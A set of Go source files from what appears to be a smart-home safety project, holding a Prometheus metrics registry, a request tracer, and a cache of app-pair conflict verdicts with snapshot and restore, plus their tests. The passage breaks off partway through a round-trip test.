		t.Errorf("total = %d, want 5", snap.Total)
	}
	var recent []string
	for _, r := range snap.Recent {
		recent = append(recent, r.Name)
	}
	if fmt.Sprint(recent) != "[e d]" {
		t.Errorf("recent = %v, want [e d]", recent)
	}
	var slow []string
	for _, s := range snap.Slowest {
		slow = append(slow, s.Name)
	}
	if fmt.Sprint(slow) != "[b d a]" {
		t.Errorf("slowest = %v, want [b d a]", slow)
	}
}

func TestDisabledTracerIsAllocationFree(t *testing.T) {
	tr := NewTracer()
	ctx := context.Background()
	allocs := testing.AllocsPerRun(1000, func() {
		sp := tr.Start("install")
		c := sp.Child("extract")
		c.SetInt("rules", 3)
		c.End()
		ctx2 := ContextWithSpan(ctx, sp)
		got := Trace(ctx2)
		got.End()
		sp.End()
	})
	if allocs != 0 {
		t.Errorf("disabled tracing allocates %v per op, want 0", allocs)
	}
}

func TestTraceContextRoundTrip(t *testing.T) {
	tr := NewTracer()
	tr.SetEnabled(true)
	sp := tr.Start("root")
	ctx := ContextWithSpan(context.Background(), sp)
	if got := Trace(ctx); got != sp {
		t.Error("Trace did not return the stored span")
	}
	if got := Trace(context.Background()); got != nil {
		t.Errorf("Trace on empty ctx = %v, want nil", got)
	}
	if ctx2 := ContextWithSpan(ctx, nil); ctx2 != ctx {
		t.Error("ContextWithSpan(nil) did not return ctx unchanged")
	}
}
