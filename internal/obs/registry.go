package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one metric label pair.
type Label struct {
	Name  string
	Value string
}

// Collector emits current metric values at scrape time. Collectors run
// under the registry lock in registration order; they must not call back
// into the registry.
type Collector func(e *Emit)

// Registry holds named metrics and renders them in Prometheus text
// exposition format. Two kinds of metric coexist:
//
//   - owned metrics (Counter, Gauge, Histogram) the registry creates and
//     updates atomically — for code that has no counter of its own;
//   - collected metrics, emitted by registered Collector callbacks at
//     scrape time — for subsystems whose counters already live behind
//     their own locks (fleet metrics, cache stats, detector totals).
//     Collection reads a snapshot once per scrape, so scraping adds no
//     contention to the request path.
//
// Registration is idempotent by name: asking for an owned metric that
// already exists returns the existing one (the audit engine re-registers
// its counters on every run).
type Registry struct {
	mu         sync.Mutex
	order      []string // owned metric names in registration order
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
	help       map[string]string
	collectors []Collector
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters:   map[string]*Counter{},
		gauges:     map[string]*Gauge{},
		histograms: map[string]*Histogram{},
		help:       map[string]string{},
	}
}

// Counter is a monotonically increasing owned metric.
type Counter struct{ v atomic.Uint64 }

// Add increments the counter by n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Inc increments the counter by one.
func (c *Counter) Inc() { c.v.Add(1) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is an owned metric that can go up and down.
type Gauge struct{ v atomic.Int64 }

// Set replaces the gauge value.
func (g *Gauge) Set(n int64) { g.v.Store(n) }

// Add adjusts the gauge by n (negative to decrease).
func (g *Gauge) Add(n int64) { g.v.Add(n) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Counter returns the owned counter registered under name, creating it
// on first use. The help text of the first registration wins.
func (r *Registry) Counter(name, help string) *Counter {
	r.mu.Lock()
	defer r.mu.Unlock()
	if c, ok := r.counters[name]; ok {
		return c
	}
	c := &Counter{}
	r.counters[name] = c
	r.register(name, help)
	return c
}

// Gauge returns the owned gauge registered under name, creating it on
// first use.
func (r *Registry) Gauge(name, help string) *Gauge {
	r.mu.Lock()
	defer r.mu.Unlock()
	if g, ok := r.gauges[name]; ok {
		return g
	}
	g := &Gauge{}
	r.gauges[name] = g
	r.register(name, help)
	return g
}

// Histogram returns the owned histogram registered under name, creating
// it on first use.
func (r *Registry) Histogram(name, help string) *Histogram {
	r.mu.Lock()
	defer r.mu.Unlock()
	if h, ok := r.histograms[name]; ok {
		return h
	}
	h := &Histogram{}
	r.histograms[name] = h
	r.register(name, help)
	return h
}

// register records a new owned metric's order slot and help. Callers
// hold r.mu and have checked the name is new in its kind map.
func (r *Registry) register(name, help string) {
	if _, ok := r.help[name]; !ok {
		r.help[name] = help
		r.order = append(r.order, name)
	}
}

// RegisterCollector adds a scrape-time metric source. Collectors run in
// registration order after the owned metrics.
func (r *Registry) RegisterCollector(c Collector) {
	r.mu.Lock()
	r.collectors = append(r.collectors, c)
	r.mu.Unlock()
}

// WritePrometheus renders every metric in Prometheus text exposition
// format (version 0.0.4): one # HELP and # TYPE comment per metric name,
// then its samples. Owned metrics come first in registration order, then
// each collector's output.
func (r *Registry) WritePrometheus(w io.Writer) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	e := newEmit()
	for _, name := range r.order {
		switch {
		case r.counters[name] != nil:
			e.Counter(name, r.help[name], float64(r.counters[name].Value()))
		case r.gauges[name] != nil:
			e.Gauge(name, r.help[name], float64(r.gauges[name].Value()))
		case r.histograms[name] != nil:
			e.Histogram(name, r.help[name], r.histograms[name].Snapshot())
		}
	}
	for _, c := range r.collectors {
		c(e)
	}
	if e.err != nil {
		return e.err
	}
	_, err := w.Write([]byte(e.b.String()))
	return err
}

// Emit receives metric samples during a scrape. All methods validate the
// metric name and label syntax; an invalid emission is recorded as an
// error (surfaced by WritePrometheus) rather than producing malformed
// exposition output.
type Emit struct {
	b     strings.Builder
	typed map[string]string // name -> emitted TYPE
	err   error
}

func newEmit() *Emit { return &Emit{typed: map[string]string{}} }

// Counter emits one counter sample. Repeated emissions of the same name
// (with distinct labels) share one HELP/TYPE header.
func (e *Emit) Counter(name, help string, v float64, labels ...Label) {
	e.sample(name, help, "counter", v, labels)
}

// Gauge emits one gauge sample.
func (e *Emit) Gauge(name, help string, v float64, labels ...Label) {
	e.sample(name, help, "gauge", v, labels)
}

// Histogram emits a full histogram: cumulative le buckets, _sum and
// _count, per the Prometheus histogram convention.
func (e *Emit) Histogram(name, help string, s HistogramSnapshot) {
	if !e.header(name, help, "histogram") {
		return
	}
	var cum uint64
	for i, c := range s.Counts {
		cum += c
		// Every observation lands in some bucket (the last one is
		// unbounded), so the +Inf bucket below carries the total and the
		// last bounded bucket can be skipped when it equals it.
		e.b.WriteString(name)
		e.b.WriteString(`_bucket{le="`)
		e.b.WriteString(formatFloat(BucketBound(i).Seconds()))
		e.b.WriteString(`"} `)
		e.b.WriteString(strconv.FormatUint(cum, 10))
		e.b.WriteByte('\n')
	}
	e.b.WriteString(name)
	e.b.WriteString(`_bucket{le="+Inf"} `)
	e.b.WriteString(strconv.FormatUint(s.Count, 10))
	e.b.WriteByte('\n')
	e.b.WriteString(name)
	e.b.WriteString("_sum ")
	e.b.WriteString(formatFloat(float64(s.SumNS) / 1e9))
	e.b.WriteByte('\n')
	e.b.WriteString(name)
	e.b.WriteString("_count ")
	e.b.WriteString(strconv.FormatUint(s.Count, 10))
	e.b.WriteByte('\n')
}

func (e *Emit) sample(name, help, typ string, v float64, labels []Label) {
	if !e.header(name, help, typ) {
		return
	}
	e.b.WriteString(name)
	if len(labels) > 0 {
		e.b.WriteByte('{')
		for i, l := range labels {
			if !validName(l.Name) {
				e.fail(fmt.Errorf("obs: metric %s: invalid label name %q", name, l.Name))
				return
			}
			if i > 0 {
				e.b.WriteByte(',')
			}
			e.b.WriteString(l.Name)
			e.b.WriteString(`="`)
			e.b.WriteString(escapeLabel(l.Value))
			e.b.WriteByte('"')
		}
		e.b.WriteByte('}')
	}
	e.b.WriteByte(' ')
	e.b.WriteString(formatFloat(v))
	e.b.WriteByte('\n')
}

// header writes the HELP/TYPE comments the first time a name appears and
// validates the name. It reports whether the sample may be written.
func (e *Emit) header(name, help, typ string) bool {
	if prev, ok := e.typed[name]; ok {
		if prev != typ {
			e.fail(fmt.Errorf("obs: metric %s emitted as both %s and %s", name, prev, typ))
			return false
		}
		return true
	}
	if !validName(name) {
		e.fail(fmt.Errorf("obs: invalid metric name %q", name))
		return false
	}
	e.typed[name] = typ
	e.b.WriteString("# HELP ")
	e.b.WriteString(name)
	e.b.WriteByte(' ')
	e.b.WriteString(escapeHelp(help))
	e.b.WriteByte('\n')
	e.b.WriteString("# TYPE ")
	e.b.WriteString(name)
	e.b.WriteByte(' ')
	e.b.WriteString(typ)
	e.b.WriteByte('\n')
	return true
}

func (e *Emit) fail(err error) {
	if e.err == nil {
		e.err = err
	}
}

// validName reports whether s is a legal Prometheus metric/label name:
// [a-zA-Z_:][a-zA-Z0-9_:]* (colons are reserved for rules but legal).
func validName(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		ok := c == '_' || c == ':' ||
			(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
			(c >= '0' && c <= '9' && i > 0)
		if !ok {
			return false
		}
	}
	return true
}

// escapeLabel escapes a label value per the exposition format: backslash,
// double quote and newline.
func escapeLabel(s string) string {
	if !strings.ContainsAny(s, "\\\"\n") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			b.WriteString(`\\`)
		case '"':
			b.WriteString(`\"`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// escapeHelp escapes a HELP text: backslash and newline.
func escapeHelp(s string) string {
	if !strings.ContainsAny(s, "\\\n") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			b.WriteString(`\\`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// formatFloat renders a sample value the way Prometheus clients do:
// shortest representation that round-trips.
func formatFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// SortLabels orders labels by name, the conventional exposition order.
func SortLabels(labels []Label) {
	sort.Slice(labels, func(i, j int) bool { return labels[i].Name < labels[j].Name })
}
