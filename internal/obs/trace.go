package obs

import (
	"context"
	"log/slog"
	"strconv"
	"sync/atomic"
	"time"
)

// Tracer hands out spans. It is disabled by default; a disabled tracer's
// Start returns a nil *Span, and every Span method no-ops on a nil
// receiver, so instrumented code pays only a nil check when tracing is
// off. Enabling, the slow threshold and the logger may be flipped at any
// time (atomically); spans started before a change keep the tracer they
// were born with.
type Tracer struct {
	enabled atomic.Bool
	slowNS  atomic.Int64
	capture atomic.Pointer[Capture]
	logger  atomic.Pointer[slog.Logger]
}

// NewTracer returns a disabled tracer with no capture and no logger.
func NewTracer() *Tracer { return &Tracer{} }

// SetEnabled turns span creation on or off.
func (t *Tracer) SetEnabled(on bool) { t.enabled.Store(on) }

// Enabled reports whether Start returns live spans.
func (t *Tracer) Enabled() bool { return t != nil && t.enabled.Load() }

// SetSlowThreshold sets the duration at or above which a finished root
// span is logged as slow. Zero or negative disables slow logging.
func (t *Tracer) SetSlowThreshold(d time.Duration) { t.slowNS.Store(int64(d)) }

// SetCapture directs finished root spans into c (nil to stop capturing).
func (t *Tracer) SetCapture(c *Capture) { t.capture.Store(c) }

// SetLogger directs slow-request log lines to l (nil to stop logging).
func (t *Tracer) SetLogger(l *slog.Logger) { t.logger.Store(l) }

// Start begins a root span, or returns nil when the tracer is disabled
// (all Span methods are nil-safe). End the returned span to finish the
// request: the completed tree is offered to the capture and, if the
// request was slow, logged.
func (t *Tracer) Start(name string) *Span {
	if t == nil || !t.enabled.Load() {
		return nil
	}
	return &Span{tracer: t, Name: name, start: time.Now()}
}

// Span is one timed stage of a request. A span and its subtree belong to
// one goroutine at a time: Child, End and the attribute setters are not
// safe for concurrent use on the same span. Fan-out code must create one
// child per worker before starting the workers (see internal/audit).
type Span struct {
	tracer   *Tracer
	parent   *Span
	Name     string
	start    time.Time
	dur      time.Duration
	attrs    []attr
	children []*Span
}

type attr struct {
	key  string
	sval string
	ival int64
	// isInt distinguishes the int64 payload from the string payload.
	isInt bool
}

// Child starts a sub-span. Nil-safe: a nil parent returns nil.
func (s *Span) Child(name string) *Span {
	if s == nil {
		return nil
	}
	c := &Span{tracer: s.tracer, parent: s, Name: name, start: time.Now()}
	s.children = append(s.children, c)
	return c
}

// SetStr attaches a string attribute. Nil-safe.
func (s *Span) SetStr(key, val string) {
	if s == nil {
		return
	}
	s.attrs = append(s.attrs, attr{key: key, sval: val})
}

// SetInt attaches an integer attribute. Nil-safe.
func (s *Span) SetInt(key string, val int64) {
	if s == nil {
		return
	}
	s.attrs = append(s.attrs, attr{key: key, ival: val, isInt: true})
}

// End finishes the span. Ending a root span publishes the completed tree
// to the tracer's capture and logs it if it crossed the slow threshold.
// Nil-safe; ending twice keeps the first duration.
func (s *Span) End() {
	if s == nil {
		return
	}
	if s.dur == 0 {
		s.dur = time.Since(s.start)
		if s.dur == 0 {
			s.dur = 1 // preserve "ended" on coarse clocks
		}
	}
	if s.parent != nil || s.tracer == nil {
		return
	}
	t := s.tracer
	if c := t.capture.Load(); c != nil {
		c.Add(s)
	}
	slow := t.slowNS.Load()
	if slow <= 0 || int64(s.dur) < slow {
		return
	}
	if l := t.logger.Load(); l != nil {
		l.LogAttrs(context.Background(), slog.LevelWarn, "slow request",
			slog.String("span", s.Name),
			slog.Duration("duration", s.dur),
			slog.Any("trace", s.JSON()),
		)
	}
}

// Duration returns the span's duration (zero until End). Nil-safe.
func (s *Span) Duration() time.Duration {
	if s == nil {
		return 0
	}
	return s.dur
}

// Ended reports whether End has run. Nil-safe.
func (s *Span) Ended() bool { return s != nil && s.dur != 0 }

// Children returns the sub-spans in creation order. Nil-safe.
func (s *Span) Children() []*Span {
	if s == nil {
		return nil
	}
	return s.children
}

// Attr returns the last value set for key and whether it was found, as a
// string ("%d" for ints). Nil-safe. Intended for tests and rendering, not
// hot paths.
func (s *Span) Attr(key string) (string, bool) {
	if s == nil {
		return "", false
	}
	for i := len(s.attrs) - 1; i >= 0; i-- {
		if s.attrs[i].key == key {
			a := s.attrs[i]
			if a.isInt {
				return strconv.FormatInt(a.ival, 10), true
			}
			return a.sval, true
		}
	}
	return "", false
}

// ctxKey keys the span stored in a context.
type ctxKey struct{}

// ContextWithSpan returns ctx carrying sp. A nil span returns ctx
// unchanged (no allocation), preserving the free-when-disabled contract.
func ContextWithSpan(ctx context.Context, sp *Span) context.Context {
	if sp == nil {
		return ctx
	}
	return context.WithValue(ctx, ctxKey{}, sp)
}

// Trace returns the span carried by ctx, or nil. All Span methods are
// nil-safe, so callers use the result unconditionally.
func Trace(ctx context.Context) *Span {
	if ctx == nil {
		return nil
	}
	sp, _ := ctx.Value(ctxKey{}).(*Span)
	return sp
}
