// Package pairverdict is a content-addressed cache of app-pair detection
// verdicts shared across homes. The online phase pair-checks every newly
// installed app against all apps already in the home, so each install is
// O(n) solver-heavy pair analyses — and fleet-wide, the same (appA, appB,
// config, modes) pair is re-solved in every home that installs the same
// catalog. The detector addresses each pair by the SHA-256 of both apps'
// canonical rule sets plus their configuration bindings and the home's
// mode list (detect.PairKey); that key covers every input pair detection
// reads, so homes that share a key provably share the verdict and the
// solver runs once per distinct pair for the whole fleet. The per-app
// halves of the key are the compiled rule sets' precomputed signatures
// (detect/compile.go), so addressing a verdict never re-serializes a
// rule set.
//
// Concurrent requests for the same uncached pair are deduplicated with a
// singleflight discipline mirroring internal/extractcache: the first
// caller computes while later callers block on the in-flight entry and
// share its result. The compute callback runs under the computing home's
// lock; it only reads that home's detector and the two apps' immutable
// extraction results, and never takes another home's lock, so waiting on
// an in-flight entry cannot deadlock.
//
// Cached []detect.Threat slices are handed out to every caller without
// copying; callers must treat them as immutable. Threat values reference
// shared *rule.Rule and solver.Model data that detection never mutates
// after reporting (the same read-only contract the extraction cache
// relies on).
package pairverdict

import (
	"sync"

	"homeguard/internal/detect"
)

// Key is the content address of one app-pair verdict (see detect.PairKey).
type Key = detect.PairKey

// entry is one cache slot. done is closed by the computing goroutine once
// threats is set; waiters block on it (singleflight).
type entry struct {
	done    chan struct{}
	threats []detect.Threat
	// failed marks an entry whose compute panicked; waiters recompute
	// locally instead of trusting an empty verdict.
	failed bool
}

// Stats are cumulative cache counters. HitRate is derived.
type Stats struct {
	// Lookups counts Detect calls.
	Lookups uint64
	// Hits counts lookups served from a completed or in-flight entry
	// (an in-flight join still means the caller ran no solver).
	Hits uint64
	// Misses counts lookups that computed the verdict themselves.
	Misses uint64
	// Entries is the current number of cached verdicts.
	Entries int
}

// HitRate returns Hits/Lookups, or 0 before any lookup.
func (s Stats) HitRate() float64 {
	if s.Lookups == 0 {
		return 0
	}
	return float64(s.Hits) / float64(s.Lookups)
}

// Cache is a goroutine-safe content-addressed pair-verdict cache. It
// implements detect.PairVerdictCache. The zero value is not usable; call
// New or NewBounded.
type Cache struct {
	mu      sync.Mutex
	entries map[Key]*entry
	limit   int // max completed entries kept; 0 = unbounded
	lookups uint64
	hits    uint64
	misses  uint64
}

// Cache satisfies the detector's cache plug-in point.
var _ detect.PairVerdictCache = (*Cache)(nil)

// New returns an empty, unbounded cache.
func New() *Cache {
	return &Cache{entries: map[Key]*entry{}}
}

// NewBounded returns an empty cache that holds at most limit verdicts.
// Reconfigures re-key an app's pairs (the signature covers the config),
// so a long-running fleet with config churn strands superseded entries;
// the bound caps that growth by evicting arbitrary completed entries on
// overflow — correctness is unaffected since every entry is recomputable,
// only the hit rate dips. A limit <= 0 means unbounded.
func NewBounded(limit int) *Cache {
	return &Cache{entries: map[Key]*entry{}, limit: limit}
}

// Detect returns the verdict cached under k, computing and caching it via
// compute on a miss. compute runs at most once per key no matter how many
// goroutines ask concurrently; the boolean reports whether the caller was
// served without computing (a hit).
func (c *Cache) Detect(k Key, compute func() []detect.Threat) ([]detect.Threat, bool) {
	c.mu.Lock()
	c.lookups++
	if e, ok := c.entries[k]; ok {
		c.hits++
		c.mu.Unlock()
		<-e.done
		if e.failed {
			// The computing home panicked mid-detection. Recompute locally
			// rather than report a bogus empty verdict, and re-book the
			// join as a miss since this caller did the solver work.
			c.mu.Lock()
			c.hits--
			c.misses++
			c.mu.Unlock()
			return compute(), false
		}
		return e.threats, true
	}
	e := &entry{done: make(chan struct{})}
	c.entries[k] = e
	c.misses++
	c.evictOverflowLocked()
	c.mu.Unlock()

	// Close done even if compute panics: an unclosed entry would wedge
	// every later Detect of this key forever. The entry is marked failed
	// and dropped from the map so waiters and future callers recompute,
	// then the panic is re-raised for this caller.
	func() {
		defer func() {
			if r := recover(); r != nil {
				e.failed = true
				c.mu.Lock()
				// Drop only our own slot: a concurrent Purge may have
				// replaced the map and a newer in-flight entry may already
				// own this key.
				if c.entries[k] == e {
					delete(c.entries, k)
				}
				c.mu.Unlock()
				close(e.done)
				panic(r)
			}
			close(e.done)
		}()
		e.threats = compute()
	}()
	return e.threats, false
}

// evictOverflowLocked drops arbitrary completed entries until the cache
// fits its limit. In-flight entries are never victims (waiters hold a
// reference; this also protects the just-inserted entry, whose done
// channel is still open). Callers hold c.mu. Map iteration order gives a
// cheap pseudo-random victim choice; an LRU would be fairer but costs
// per-hit bookkeeping on the path every install takes.
func (c *Cache) evictOverflowLocked() {
	if c.limit <= 0 {
		return
	}
	for k, e := range c.entries {
		if len(c.entries) <= c.limit {
			return
		}
		select {
		case <-e.done:
			delete(c.entries, k)
		default: // in flight
		}
	}
}

// Stats returns a snapshot of the cache counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Stats{
		Lookups: c.lookups,
		Hits:    c.hits,
		Misses:  c.misses,
		Entries: len(c.entries),
	}
}

// Len returns the number of cached verdicts.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Purge drops every cached verdict (counters are kept). In-flight
// computations complete and are returned to their waiters but are no
// longer cached for later callers.
func (c *Cache) Purge() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.entries = map[Key]*entry{}
}
