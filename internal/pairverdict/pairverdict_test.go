package pairverdict

import (
	"sync"
	"sync/atomic"
	"testing"

	"homeguard/internal/detect"
)

func keyN(n byte) Key {
	var k Key
	k[0] = n
	return k
}

func TestDetectCachesVerdict(t *testing.T) {
	c := New()
	var computes atomic.Int64
	compute := func() []detect.Threat {
		computes.Add(1)
		return []detect.Threat{{Kind: detect.ActuatorRace, Note: "x"}}
	}
	ts, hit := c.Detect(keyN(1), compute)
	if hit || len(ts) != 1 {
		t.Fatalf("first lookup: hit=%v threats=%d, want miss with 1 threat", hit, len(ts))
	}
	ts, hit = c.Detect(keyN(1), compute)
	if !hit || len(ts) != 1 {
		t.Fatalf("second lookup: hit=%v threats=%d, want hit with 1 threat", hit, len(ts))
	}
	if got := computes.Load(); got != 1 {
		t.Errorf("compute ran %d times, want 1", got)
	}
	s := c.Stats()
	if s.Lookups != 2 || s.Hits != 1 || s.Misses != 1 || s.Entries != 1 {
		t.Errorf("stats = %+v, want 2 lookups, 1 hit, 1 miss, 1 entry", s)
	}
	if r := s.HitRate(); r != 0.5 {
		t.Errorf("hit rate = %v, want 0.5", r)
	}
}

func TestDetectNilVerdictIsCached(t *testing.T) {
	c := New()
	var computes atomic.Int64
	compute := func() []detect.Threat { computes.Add(1); return nil }
	for i := 0; i < 3; i++ {
		if ts, _ := c.Detect(keyN(2), compute); ts != nil {
			t.Fatalf("lookup %d: threats = %v, want nil", i, ts)
		}
	}
	if got := computes.Load(); got != 1 {
		t.Errorf("compute ran %d times, want 1 (empty verdicts cache too)", got)
	}
}

// TestDetectSingleflight: concurrent misses on one key coalesce onto a
// single computation whose result every caller shares.
func TestDetectSingleflight(t *testing.T) {
	c := New()
	var computes atomic.Int64
	release := make(chan struct{})
	compute := func() []detect.Threat {
		computes.Add(1)
		<-release
		return []detect.Threat{{Kind: detect.GoalConflict}}
	}

	const callers = 16
	var wg sync.WaitGroup
	results := make([][]detect.Threat, callers)
	started := make(chan struct{}, callers)
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			started <- struct{}{}
			ts, _ := c.Detect(keyN(3), compute)
			results[i] = ts
		}(i)
	}
	for i := 0; i < callers; i++ {
		<-started
	}
	close(release)
	wg.Wait()

	if got := computes.Load(); got != 1 {
		t.Errorf("compute ran %d times under contention, want 1", got)
	}
	for i, ts := range results {
		if len(ts) != 1 || ts[0].Kind != detect.GoalConflict {
			t.Errorf("caller %d got %v, want the shared GC verdict", i, ts)
		}
	}
	s := c.Stats()
	if s.Misses != 1 || s.Hits != callers-1 {
		t.Errorf("stats = %+v, want 1 miss and %d hits", s, callers-1)
	}
}

// TestDetectComputePanic: a panicking computation must not wedge waiters
// or cache a bogus empty verdict.
func TestDetectComputePanic(t *testing.T) {
	c := New()
	func() {
		defer func() {
			if recover() == nil {
				t.Fatal("panic was swallowed")
			}
		}()
		c.Detect(keyN(4), func() []detect.Threat { panic("boom") })
	}()
	// The failed entry is gone; the next caller recomputes cleanly.
	ts, hit := c.Detect(keyN(4), func() []detect.Threat {
		return []detect.Threat{{Kind: detect.CovertTriggering}}
	})
	if hit || len(ts) != 1 {
		t.Fatalf("post-panic lookup: hit=%v threats=%d, want clean miss with 1 threat", hit, len(ts))
	}
}

// TestBoundedEviction: a bounded cache holds the line at its limit by
// dropping completed entries, and the freshly inserted key survives.
func TestBoundedEviction(t *testing.T) {
	c := NewBounded(4)
	for i := byte(0); i < 10; i++ {
		c.Detect(keyN(i), func() []detect.Threat { return nil })
		if c.Len() > 4 {
			t.Fatalf("after insert %d: len = %d, want <= 4", i, c.Len())
		}
	}
	// The last key inserted is never the eviction victim of its own
	// overflow pass.
	var computes atomic.Int64
	c.Detect(keyN(9), func() []detect.Threat { computes.Add(1); return nil })
	if computes.Load() != 0 {
		t.Error("just-inserted entry was evicted by its own insert")
	}
	// In-flight entries are never evicted even under overflow.
	release := make(chan struct{})
	started := make(chan struct{})
	go func() {
		c.Detect(keyN(100), func() []detect.Threat {
			close(started)
			<-release
			return nil
		})
	}()
	<-started
	for i := byte(101); i < 120; i++ {
		c.Detect(keyN(i), func() []detect.Threat { return nil })
	}
	c.mu.Lock()
	_, inFlightKept := c.entries[keyN(100)]
	c.mu.Unlock()
	close(release)
	if !inFlightKept {
		t.Error("overflow evicted an in-flight entry")
	}
}

func TestPurge(t *testing.T) {
	c := New()
	c.Detect(keyN(5), func() []detect.Threat { return nil })
	if c.Len() != 1 {
		t.Fatalf("len = %d, want 1", c.Len())
	}
	c.Purge()
	if c.Len() != 0 {
		t.Fatalf("len after purge = %d, want 0", c.Len())
	}
	var computes atomic.Int64
	c.Detect(keyN(5), func() []detect.Threat { computes.Add(1); return nil })
	if computes.Load() != 1 {
		t.Error("purged entry was still served")
	}
}
