package pairverdict

import (
	"fmt"
	"io"

	"homeguard/internal/detect"
	"homeguard/internal/snapcodec"
)

// Persistent warm-start for the pair-verdict cache: Snapshot serializes
// every completed verdict through the shared snapcodec framing, Restore
// merges a snapshot back in, so a restarted daemon answers its first
// install storm from solved verdicts instead of re-running the solver
// per pair. Failed (panicked) entries are never snapshotted.

const (
	snapshotMagic   = "HGPVSNP\x00"
	snapshotVersion = 1
)

// Re-exported so callers can match restore failures without importing the
// codec package.
var (
	ErrSnapshotVersion = snapcodec.ErrVersion
	ErrSnapshotCorrupt = snapcodec.ErrCorrupt
)

// Snapshot writes every completed verdict to w in the versioned,
// checksummed snapshot format, returning the number of entries written.
// In-flight computations are skipped and the entry set is captured under
// the lock, then serialized outside it (cached verdicts are immutable),
// so concurrent Detect traffic proceeds during the write.
func (c *Cache) Snapshot(w io.Writer) (int, error) {
	type kv struct {
		k Key
		e *entry
	}
	c.mu.Lock()
	done := make([]kv, 0, len(c.entries))
	for k, e := range c.entries {
		select {
		case <-e.done:
			if !e.failed {
				done = append(done, kv{k, e})
			}
		default: // in flight
		}
	}
	c.mu.Unlock()

	sw, err := snapcodec.NewWriter(w, snapshotMagic, snapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("pairverdict: snapshot: %w", err)
	}
	for _, it := range done {
		payload, err := detect.MarshalThreats(it.e.threats)
		if err != nil {
			return 0, fmt.Errorf("pairverdict: snapshot entry: %w", err)
		}
		rec := make([]byte, 0, len(it.k)+len(payload))
		rec = append(rec, it.k[:]...)
		rec = append(rec, payload...)
		if err := sw.Record(rec); err != nil {
			return 0, fmt.Errorf("pairverdict: snapshot: %w", err)
		}
	}
	if err := sw.Close(); err != nil {
		return 0, fmt.Errorf("pairverdict: snapshot: %w", err)
	}
	return len(done), nil
}

// Restore merges a snapshot produced by Snapshot into the cache,
// returning the number of verdicts added. Keys already present keep
// their live value. A wrong format version fails with ErrSnapshotVersion
// and damage with ErrSnapshotCorrupt; entries merged before the failure
// stay (each is individually valid). Restored entries count toward the
// bound; overflow evicts as usual on the next insert.
func (c *Cache) Restore(r io.Reader) (int, error) {
	sr, err := snapcodec.NewReader(r, snapshotMagic, snapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("pairverdict: restore: %w", err)
	}
	added := 0
	for {
		rec, err := sr.Next()
		if err == io.EOF {
			return added, nil
		}
		if err != nil {
			return added, fmt.Errorf("pairverdict: restore: %w", err)
		}
		var k Key
		if len(rec) < len(k) {
			return added, fmt.Errorf("pairverdict: restore: %w: record shorter than a key", ErrSnapshotCorrupt)
		}
		copy(k[:], rec)
		threats, err := detect.UnmarshalThreats(rec[len(k):])
		if err != nil {
			return added, fmt.Errorf("pairverdict: restore: %w: %v", ErrSnapshotCorrupt, err)
		}
		e := &entry{done: closedDone, threats: threats}
		c.mu.Lock()
		if _, exists := c.entries[k]; !exists {
			c.entries[k] = e
			added++
			c.evictOverflowLocked()
		}
		c.mu.Unlock()
	}
}

// closedDone is the pre-closed done channel shared by restored entries
// (waiters must never block on them).
var closedDone = func() chan struct{} {
	ch := make(chan struct{})
	close(ch)
	return ch
}()
