package pairverdict

import (
	"bytes"
	"errors"
	"fmt"
	"sync"
	"testing"

	"homeguard/internal/detect"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// verdictFor builds a realistic cached verdict: threats with full rules
// and a witness, as real detection produces.
func verdictFor(n int) []detect.Threat {
	r1 := &rule.Rule{
		App: fmt.Sprintf("AppA%d", n), ID: "R1",
		Trigger: rule.Trigger{Subject: "tv1", Attribute: "switch", Capability: "switch"},
		Action:  rule.Action{Subject: "window1", Capability: "switch", Command: "on"},
	}
	r2 := &rule.Rule{
		App: fmt.Sprintf("AppB%d", n), ID: "R2",
		Trigger: rule.Trigger{Subject: "temp1", Attribute: "temperature", Capability: "temperatureMeasurement"},
		Action:  rule.Action{Subject: "window1", Capability: "switch", Command: "off"},
	}
	return []detect.Threat{{
		Kind: detect.ActuatorRace, R1: r1, R2: r2,
		Witness: solver.Model{"dev-window.switch": {Enum: "on"}, "temp": {Int: 77}},
		Note:    "contradictory commands on the same actuator",
	}}
}

func renderVerdict(t *testing.T, ts []detect.Threat) string {
	t.Helper()
	b, err := detect.MarshalThreats(ts)
	if err != nil {
		t.Fatalf("marshal threats: %v", err)
	}
	return string(b)
}

// TestVerdictSnapshotRoundTrip: a restored cache serves hits whose
// threats re-marshal byte-identically — kind, rules, property, witness
// and note all preserved — and never invokes compute.
func TestVerdictSnapshotRoundTrip(t *testing.T) {
	warm := New()
	const entries = 10
	for i := 0; i < entries; i++ {
		i := i
		warm.Detect(keyN(byte(i)), func() []detect.Threat { return verdictFor(i) })
	}
	// One clean (empty) verdict: absence of threats is cacheable state.
	warm.Detect(keyN(200), func() []detect.Threat { return nil })

	var buf bytes.Buffer
	n, err := warm.Snapshot(&buf)
	if err != nil {
		t.Fatalf("snapshot: %v", err)
	}
	if n != entries+1 {
		t.Fatalf("snapshot wrote %d verdicts, want %d", n, entries+1)
	}

	cold := New()
	added, err := cold.Restore(bytes.NewReader(buf.Bytes()))
